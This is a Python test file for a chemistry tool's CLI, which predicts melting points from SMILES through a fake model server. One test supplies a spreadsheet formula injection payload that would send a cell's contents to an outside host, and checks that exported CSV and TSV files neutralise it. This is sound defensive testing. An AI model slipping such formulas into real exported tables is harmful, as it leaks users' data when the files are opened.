"""`predict` and `store` on a finished run, through the fake server."""

import csv
from pathlib import Path
from typing import Any

import orjson
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from fake_vllm import FakeVllm
from made_answers import cut_off
from rdkit import Chem

from selfstudy_engine.cli.main import cli
from selfstudy_engine.data.adapters import read_adapter
from selfstudy_engine.data.config import override
from selfstudy_engine.data.exemplars import load_exemplars
from selfstudy_engine.data.run_folder import RunFolder, read_config
from selfstudy_engine.engine.rounds import load_records


def run(finished: RunFolder, fake: FakeVllm, *arguments: Any) -> Result:
    where = ["--run", "test", "--runs", str(finished.path.parent), "--server", fake.url]
    environment = {"SELFSTUDY_SERVER_KEY": fake.api_key}
    call = ["predict", *where, *map(str, arguments)]
    return CliRunner().invoke(cli, call, env=environment, catch_exceptions=False)


def test_the_last_adapter_answers_or_the_one_of_a_round(
    finished: RunFolder, fake: FakeVllm
) -> None:
    asked = ["--smiles", "CCO", "--smiles", "c1ccccc1O", "--num-answers", 3]
    for more, index in ((["--round", 1], 1), ([], 2)):
        result = run(finished, fake, *asked, *more)
        assert result.exit_code == 0, result.output
        assert result.stdout.count("°C") == 2
        swap = [r for r in fake.requests if r.path == "/collective_rpc"][-1]
        assert swap.body["kwargs"]["adapter_folder"].endswith(f"round-{index:04d}")
    assert [r.body["n"] for r in fake.generations] == [3] * 4
    missing = run(finished, fake, *asked, "--round", 7)
    assert missing.exit_code != 0
    assert "choose --round from 0 to 2" in missing.output


def read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".parquet":
        return pq.read_table(path).to_pylist()
    if path.suffix == ".jsonl":
        return [orjson.loads(line) for line in path.read_bytes().splitlines()]
    if path.suffix == ".sdf":
        return [mol.GetPropsAsDict() for mol in Chem.SDMolSupplier(str(path))]
    with path.open(encoding="utf-8") as file:
        return list(csv.DictReader(file, delimiter="\t" if path.suffix == ".tsv" else ","))


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".parquet", ".jsonl", ".sdf"])
def test_a_table_keeps_its_columns_its_order_and_its_bad_rows(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path, suffix: str
) -> None:
    table = tmp_path / "asked.csv"
    lines = ["id,structure,batch", "first,CCO,7", "second,not a molecule,8", "third,CCCO,9"]
    table.write_text("\n".join(lines) + "\n")
    out = tmp_path / f"predicted{suffix}"
    columns = ["--smiles-column", "structure", "--name-column", "id"]
    result = run(finished, fake, "--table", table, *columns, "--out", out)
    assert result.exit_code == 0, result.output
    rows = read(out)
    assert [row["id"] for row in rows] == ["first", "second", "third"]
    assert [str(row["batch"]) for row in rows] == ["7", "8", "9"]
    assert [row["error"] for row in rows] == ["", "unparsable SMILES", ""]
    assert float(rows[0]["predicted"]) is not None
    assert rows[0]["reason"]
    assert 0 <= float(rows[0]["similarity"]) <= 1
    assert rows[1]["predicted"] in {None, ""}
    assert not list(tmp_path.glob("*.partial*")), "nothing is left of a call that is done"


@pytest.mark.parametrize(
    ("suffix", "shown"), [(".csv", "'{}"), (".tsv", "'{}"), (".jsonl", "{}"), (".sdf", "{}")]
)
def test_a_models_text_is_no_formula_of_a_spreadsheet(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path, suffix: str, shown: str
) -> None:
    reason = '=HYPERLINK("http://elsewhere/"&A1,"two nitro groups")'
    fake.script = lambda *_: f" {reason}\nMelting point (°C): -80"
    table, out = tmp_path / "asked.csv", tmp_path / f"out{suffix}"
    table.write_text("smiles,note\nCCO,=own\n", "utf-8")
    assert run(finished, fake, "--table", table, "--out", out).exit_code == 0
    [row] = read(out)
    assert row["reason"] == shown.format(reason)
    assert row["claims"] == "false: two nitro groups"
    assert float(row["predicted"]) == -80
    assert row["note"] == "=own", "the table's own cells come back as they were"


def test_a_number_that_the_token_limit_cut_off_isnt_predicted(
    finished: RunFolder, fake: FakeVllm
) -> None:
    fake.script = lambda prompt, name, index: " Because.\nMelting point (°C): 12"  # of 120
    fake.fail_next("/v1/completions", times=100, edit=cut_off)
    result = run(finished, fake, "--smiles", "CCO")
    assert "CCO: no answer had a value\n" in result.stdout


def test_claims_are_marked(finished: RunFolder, fake: FakeVllm, tmp_path: Path) -> None:
    fake.script = lambda *_: " It has two nitro groups and a hydroxyl.\nMelting point (°C): 80"
    out = tmp_path / "out.jsonl"
    assert run(finished, fake, "--smiles", "CCO", "--out", out).exit_code == 0
    [row] = read(out)
    assert row["claims"] == "false: two nitro groups; true: a hydroxyl"
    assert row["num_false_claims"] == 1
    assert row["predicted"] == 80


def test_a_table_is_shown_by_its_own_columns(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    fake.script = lambda *_: " It has two nitro groups and a hydroxyl.\a\nMelting point (°C): 80"
    table = tmp_path / "asked.csv"
    table.write_text("id,structure\nfi\brst,CCO\n,CCCO\nlast,not a \a molecule\n")
    call = ["--table", table, "--smiles-column", "structure", "--num-answers", 1]
    for more, shown in ([[], "CCO"], [["--name-column", "id"], r"fi\x08rst"]):
        result = run(finished, fake, *call, *more)
        assert result.exit_code == 0, result.output
        blocks = result.stdout.split("\n  similarity to what was trained on: 0.")
        assert blocks[0].splitlines() == [
            f"{shown}: 80 °C",
            r"  It has two nitro groups and a hydroxyl.\x07",
            "  claims: false: two nitro groups; true: a hydroxyl",
        ]
        assert blocks[1].splitlines()[1] == "CCCO: 80 °C", "it has no name"
        assert blocks[2].endswith(": unparsable SMILES\n")
        assert "\a" not in result.stdout


def test_a_molecule_that_was_trained_on_is_its_own_neighbour(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    exemplar = load_exemplars(finished.exemplars())[0].molecule
    out = tmp_path / "out.jsonl"
    asked = ["--smiles", exemplar.smiles, "--smiles", "C1CC2CC1C(=S)N2[Si](C)(C)C"]
    assert run(finished, fake, *asked, "--out", out).exit_code == 0
    similarity = [row["similarity"] for row in read(out)]
    assert similarity[0] == 1
    assert similarity[1] < 0.5


def test_an_sdf_table(finished: RunFolder, fake: FakeVllm, tmp_path: Path) -> None:
    table, out = tmp_path / "asked.sdf", tmp_path / "out.sdf"
    with Chem.SDWriter(str(table)) as writer:
        for smiles, title in (("CCO", "ethanol"), ("CC(C)O", "isopropanol")):
            mol = Chem.MolFromSmiles(smiles)
            mol.SetProp("_Name", title)
            mol.SetProp("shelf", "B4")
            writer.write(mol)
    result = run(finished, fake, "--table", table, "--name-column", "name", "--out", out)
    assert result.exit_code == 0, result.output
    mols = list(Chem.SDMolSupplier(str(out)))
    assert [mol.GetProp("_Name") for mol in mols] == ["ethanol", "isopropanol"]
    assert [Chem.MolToSmiles(mol) for mol in mols] == ["CCO", "CC(C)O"]
    assert [mol.GetProp("shelf") for mol in mols] == ["B4", "B4"]
    assert all(mol.HasProp("predicted") for mol in mols)


def test_cells_of_several_lines_and_an_unnamed_column_are_kept_in_an_sdf(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    table, out = tmp_path / "asked.csv", tmp_path / "out.sdf"
    table.write_text(',smiles,note,"shelf\nmark"\n7,CCO,"dry\n\nkeep cold",B4\n')
    assert run(finished, fake, "--table", table, "--out", out).exit_code == 0
    [row] = read(out)
    assert (row["unnamed"], row["note"], row["shelf mark"]) == (7, "dry keep cold", "B4")


def test_a_call_that_was_cut_off_goes_on(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    table, out = tmp_path / "asked.csv", tmp_path / "out.csv"
    smiles = ["C" * length + "O" for length in range(1, 13)]
    table.write_text("smiles\n" + "\n".join([*smiles, smiles[0]]) + "\n")
    call = ["--table", table, "--out", out]
    broken = smiles[7]
    fake.fail_next(
        "/v1/completions", times=100, status=400, matching=lambda body: broken in str(body)
    )
    failed = run(finished, fake, *call)
    assert failed.exit_code == 1, failed.output
    assert not out.exists()
    [partial] = tmp_path.glob("*.partial.jsonl")
    num_kept = len(partial.read_bytes().splitlines()) - 1
    assert 0 < num_kept < len(smiles)
    partial.write_bytes(partial.read_bytes() + b'{"molecule": {"mol')  # cut off by a dead machine
    other = run(finished, fake, *call, "--num-answers", 2)
    assert other.exit_code == 2
    assert "the beginning of other predictions (sampling: " in other.output
    with FakeVllm() as healthy:
        assert run(finished, healthy, *call).exit_code == 0
        assert len(healthy.generations) == len(smiles) - num_kept, "no molecule is asked twice"
    rows = read(out)
    assert [row["smiles"] for row in rows] == [*smiles, smiles[0]]
    assert rows[0] == rows[-1]
    assert not partial.exists()


def test_a_file_of_something_else_is_left_alone(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    partial = tmp_path / "out.csv.partial.jsonl"
    call = '{"adapter": 1}\n{"reason": 2}\n'
    for content in ("my notes", "my notes\nand more", "[1, 2]\n", call):
        partial.write_text(content)
        result = run(finished, fake, "--smiles", "C", "--out", tmp_path / "out.csv")
        assert result.exit_code == 2
        assert "something else than predictions" in result.output
        assert partial.read_text() == content


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ([], "say what to predict"),
        (["--smiles", "not a molecule"], "none of 1 SMILES can be parsed"),
        (["--name", "unobtainium"], "no molecule named"),
        (["--smiles", "C", "--out", "predicted.txt"], "must be a new file that ends in"),
    ],
)
def test_a_wrong_call_says_why(
    finished: RunFolder, fake: FakeVllm, arguments: list[str], message: str
) -> None:
    result = run(finished, fake, *arguments)
    assert result.exit_code == 2
    assert message in result.output
    assert not fake.requests


def test_a_name_of_two_molecules_is_refused(
    copied: RunFolder, fake: FakeVllm, tmp_path: Path
) -> None:
    table = tmp_path / "named.csv"
    table.write_text("smiles,value,name\nC[C@H](O)F,53,x\nC[C@@H](O)F,17,X\nCCO,-114,ethanol\n")
    named = {"table.path": str(table), "table.name_column": "name"}
    copied.config.write_text(override(read_config(copied), named).to_toml(), "utf-8")
    refused = run(copied, fake, "--name", "ethanol", "--name", "x")
    assert refused.exit_code == 2
    assert "2 molecules named 'x' (C[C@H](O)F; C[C@@H](O)F)" in refused.output
    assert run(copied, fake, "--name", "Ethanol").stdout.startswith("ethanol: ")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("smiles,reason\nC,none\n", "columns that a prediction would write (reason)"),
        ("smiles,note,,,note\nC,a,b,c,d\n", "several columns of one name ('note'; '')"),
        ("structure\nC\n", "no column 'smiles'"),
        ("smiles\n", "the table has no rows"),
    ],
)
def test_a_wrong_table_says_why(
    finished: RunFolder, fake: FakeVllm, tmp_path: Path, content: str, message: str
) -> None:
    table = tmp_path / "asked.csv"
    table.write_text(content)
    result = run(finished, fake, "--table", table)
    assert result.exit_code == 2
    assert message in result.output
    both = run(finished, fake, "--table", table, "--smiles", "C")
    assert (both.exit_code, "either --table, or" in both.output) == (2, True)


def test_a_run_that_isnt_there(finished: RunFolder, fake: FakeVllm) -> None:
    call = ["predict", "--run", "nowhere", "--runs", str(finished.path.parent), "--smiles", "C"]
    result = CliRunner().invoke(cli, call)
    assert result.exit_code == 2
    assert "no run 'nowhere'" in result.output
    assert "test" in result.output


def test_an_adapter_is_trained_from_a_runs_samples(finished: RunFolder, tmp_path: Path) -> None:
    """`train` by itself: the run's configuration, exemplars and samples; one adapter folder."""
    out = tmp_path / "again"
    runs = str(finished.path.parent)
    call = ["train", "--run", "test", "--runs", runs, "--out", str(out), "--before-round", "1"]
    result = CliRunner().invoke(cli, call, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    adapter = read_adapter(out)
    accepted = load_records(finished)[0].num_accepted
    assert adapter.training["num_samples"] == accepted
    assert f"{accepted} samples" in result.output
    again = CliRunner().invoke(cli, call)
    assert again.exit_code == 2
    assert "exists already" in again.output
    assert read_adapter(out) == adapter
